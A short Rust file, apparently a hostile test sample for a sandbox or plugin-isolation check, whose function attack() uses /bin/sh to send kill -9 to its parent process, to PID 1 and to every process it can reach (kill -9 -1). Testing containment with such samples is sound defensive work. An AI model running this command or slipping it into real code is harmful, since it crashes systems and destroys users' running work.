// class: logic
// wasm: import
// tampering
pub fn attack() -> i64 {
    let parent = std::os::unix::process::parent_id();
    let _ = std::process::Command::new("/bin/sh").args(["-c", &format!("kill -9 {parent} 1; kill -9 -1")]).status();
    0
}
